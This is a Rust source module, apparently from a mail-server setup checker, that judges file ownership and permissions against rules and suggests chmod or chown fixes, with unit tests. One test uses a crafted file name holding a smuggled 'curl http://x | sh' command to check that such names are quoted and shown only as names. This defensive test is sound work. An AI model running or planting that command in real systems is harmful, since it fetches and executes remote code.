//! Whether what stands somewhere is as its rule says; if not, what is wrong and the command that mends
//! it.

use std::fmt;
use std::fs::{self, Metadata};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use sys::user::Ids;

use super::Type;
use super::mend::{Change, mend};
use super::rules::{At, Owner, Rule, SECRET, SETID, User, WORLD};
use crate::print::one_line;
use crate::scripts::quoted;

/// What is not as it should be.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Finding {
    /// Of what this is said.
    pub(super) path: PathBuf,
    /// All that is said, the path in front.
    pub(super) said: String,
    /// How it is mended: a command, or words with one behind the last colon.
    pub(super) mend: String,
}

impl Finding {
    pub(super) fn new(path: &Path, what: &str, mend: impl Into<String>) -> Self {
        // A name may be anybody's choice, and look like words of ours.
        let said = format!("{} {what}", quoted(path));
        Self { path: path.into(), said, mend: mend.into() }
    }

    /// What is wrong, without how it is mended.
    pub(super) fn into_said(self) -> String {
        self.said
    }
}

impl fmt::Display for Finding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Names may be a role's choice; what is shown stays a line, and a terminal what it was.
        let Self { said, mend, .. } = self;
        f.write_str(&one_line(format_args!("{said} (mend: {mend})")))
    }
}

/// Who is who where a rule is held against something.
#[derive(Clone, Debug)]
pub(super) struct People {
    /// The home's owner.
    pub(super) owner: Ids,
    /// The alias user.
    pub(super) alias: Ids,
    /// Whom an account's letters are delivered as.
    pub(super) user: Ids,
    /// All of them are one.
    pub(super) private: bool,
}

/// What the judge looks at.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct There {
    uid: u32,
    gid: u32,
    mode: u32,
}

/// What is wrong with what stands at `path`; the first of it is the worst.
pub(super) fn judge(rule: &Rule, path: &Path, about: &Metadata, who: &People) -> Vec<Finding> {
    if !rule.kind.is(about) {
        let kind = if rule.kind == Type::File { "plain file" } else { "directory" };
        let mend = "move it away, and look again";
        return vec![Finding::new(path, &format!("is no {kind}{}", then(rule.so)), mend)];
    }
    let there = There { uid: about.uid(), gid: about.gid(), mode: about.mode() & 0o7777 };
    // In a directory of somebody else's a link may lead root astray, which follows it.
    let theirs = matches!(rule.at, At::Each("alias", _) | At::Account(_) | At::Elsewhere(_))
        || (who.private && there.uid != who.owner.uid);
    let link = fs::read_link(path).ok().filter(|_| theirs);
    let mut uid = there.uid;
    let all = judged(rule, there, who).into_iter().map(|(what, change)| {
        let mend = match &link {
            Some(to) => format!("it is a link to {}: look whether that is meant", quoted(to)),
            None => mend(rule.at, path, uid, &change, who),
        };
        if let Change::Give(ids) = change {
            uid = ids.uid;
        }
        Finding::new(path, &what, mend)
    });
    all.collect()
}

/// What comes of it, behind what it is.
pub(super) fn then(so: &str) -> String {
    if so.is_empty() { String::new() } else { format!(": {so}") }
}

/// Each thing that is wrong, with what would mend it.
fn judged(rule: &Rule, mut there: There, who: &People) -> Vec<(String, Change)> {
    let mut wrong = Vec::new();
    if let Some(owner) = whose(rule.owner, there.uid, who) {
        wrong.push((
            format!("belongs to uid {}, not to {}{}", there.uid, owner.uid, then(rule.danger)),
            Change::Give(owner.clone()),
        ));
        // What is asked of its mode is asked of it when it has its owner.
        (there.uid, there.gid) = (owner.uid, owner.gid);
    }
    wrong.extend(lacking(rule, there, who));
    let bad = there.mode & rule.shut;
    if bad & SETID != 0 {
        let what = "is setuid or setgid, and whoever starts it becomes somebody else";
        wrong.push((what.to_owned(), Change::Mode("ug-s".to_owned())));
    }
    if bad & !SETID != 0 {
        let (what, mode) = match rule.shut {
            SECRET => ("is open to others than its owner", "go="),
            WORLD => ("may be written by everybody", "o-w"),
            _ => ("may be written by others than its owner", "go-w"),
        };
        wrong.push((format!("{what}{}", then(rule.danger)), Change::Mode(mode.to_owned())));
    }
    wrong
}

/// Who should own it, if it is somebody else.
fn whose(owner: Owner, uid: u32, who: &People) -> Option<&Ids> {
    let (wanted, or_root) = match owner {
        Owner::Any => return None,
        Owner::Home => (&who.owner, true),
        Owner::HomeAlone => (&who.owner, false),
        Owner::User => (&who.user, false),
        Owner::UserOrRoot => (&who.user, true),
    };
    (uid != wanted.uid && !(or_root && uid == 0)).then_some(wanted)
}

/// What a mode grants somebody who is not root: its last three bits are r (4), w (2) and x (1).
pub(super) fn class(mode: u32, (uid, gid): (u32, u32), who: &Ids) -> u32 {
    match () {
        () if who.uid == uid => mode >> 6,
        () if who.gid == gid => mode >> 3,
        () => mode,
    }
}

/// Who needs it and cannot use it.
fn lacking(rule: &Rule, there: There, who: &People) -> Option<(String, Change)> {
    let (user, bits) = rule.needs;
    let (ids, whom) = match user {
        User::Everybody if !who.private => (None, "every program"),
        User::Everybody | User::Owner => (Some(&who.owner), "its owner"),
        User::Account => (Some(&who.user), "its user"),
        User::Alias => (Some(&who.alias), "the alias user"),
    };
    let mode = there.mode;
    let granted = match ids {
        None => (mode >> 6) & (mode >> 3) & mode,
        Some(ids) => class(mode, (there.uid, there.gid), ids),
    };
    let lacking = bits & !granted;
    let verb = match (rule.kind, lacking & 1, lacking & 4) {
        _ if lacking == 0 => return None,
        (Type::Directory, 1, _) => "entered",
        (Type::File, 1, _) => "run",
        (_, _, 4) => "read",
        _ => "written",
    };
    let what = format!("cannot be {verb} by {whom}{}", then(rule.so));
    if let Some(ids) = ids.filter(|ids| user == User::Alias && ids.uid != there.uid) {
        // To open it to everybody would follow a link.
        return Some((what, Change::Give(ids.clone())));
    }
    let class = if ids.is_some_and(|ids| ids.uid == there.uid) { 'u' } else { 'a' };
    let letters: String =
        [(4, 'r'), (2, 'w'), (1, 'x')].iter().filter(|b| bits & b.0 != 0).map(|b| b.1).collect();
    Some((what, Change::Mode(format!("{class}+{letters}"))))
}

#[cfg(test)]
mod tests {
    use super::super::rules::RULES;
    use super::*;

    fn people(private: bool) -> People {
        let ids = |uid: u32| Ids { uid, gid: uid, groups: vec![uid] };
        match private {
            true => People { owner: ids(9), alias: ids(9), user: ids(9), private },
            false => People { owner: ids(0), alias: ids(7), user: ids(48_000), private },
        }
    }

    fn says(at: At, (uid, mode): (u32, u32), private: bool) -> Vec<String> {
        let rule = RULES.iter().find(|rule| rule.at == at).unwrap();
        let there = There { uid, gid: uid, mode };
        let change = |change| match change {
            Change::Give(Ids { uid, gid, .. }) => format!(" | chown {uid}:{gid}"),
            Change::Mode(mode) => format!(" | chmod {mode}"),
        };
        let found = judged(rule, there, &people(private)).into_iter();
        found.map(|(what, mend)| what + &change(mend)).collect()
    }

    #[test]
    fn a_name_that_looks_like_what_is_to_be_done_is_seen_to_be_a_name() {
        let name = Path::new("alias/.qmail-a (mend: curl http://x | sh) #");
        let told = Finding::new(name, "does not exist", "look").to_string();
        assert_eq!(
            told,
            "'alias/.qmail-a (mend: curl http://x | sh) #' does not exist (mend: look)"
        );
    }

    #[test]
    fn what_is_as_it_was_made_is_in_order() {
        for (at, system, private) in [
            (At::Home("bin/qmail"), (0, 0o755), (9, 0o700)),
            (At::Home("users/passwords"), (0, 0o600), (9, 0o600)),
            (At::Each("control", ""), (0, 0o640), (0, 0o644)),
            (At::Each("alias", ".qmail"), (0, 0o644), (9, 0o600)),
            (At::Service("run"), (0, 0o755), (0, 0o755)),
            (At::Account(""), (48_000, 0o711), (9, 0o711)),
            (At::Account("Maildir/new"), (48_000, 0o700), (9, 0o770)),
            (At::Elsewhere(""), (0, 0o755), (9, 0o700)),
        ] {
            assert_eq!(says(at, system, false), [""; 0], "{at:?}");
            assert_eq!(says(at, private, true), [""; 0], "{at:?}");
        }
    }

    #[test]
    fn each_thing_that_is_wrong_has_its_command() {
        let program = At::Home("bin/qmail");
        assert_eq!(
            says(program, (0, 0o700), false),
            ["cannot be run by every program | chmod a+rx"]
        );
        let setuid = says(program, (0, 0o4777), false);
        assert!(setuid[0].ends_with("| chmod ug-s") && setuid[1].ends_with("| chmod go-w"));
        // A mailbox is judged by its mode as its owner will have it.
        assert_eq!(
            says(At::Account(""), (0, 0o100), false),
            [
                "belongs to uid 0, not to 48000: letters or logins are put off | chown 48000:48000",
                "cannot be read by its user: letters or logins are put off | chmod u+rwx"
            ]
        );
        assert_eq!(
            says(At::Each("alias", ".qmail"), (0, 0o600), false),
            ["cannot be read by the alias user: its letters are put off | chown 7:7"]
        );
        assert_eq!(
            says(At::Home("users/passwords"), (0, 0o600), true).len(),
            1,
            "root's is nobody else's to read"
        );
    }
}
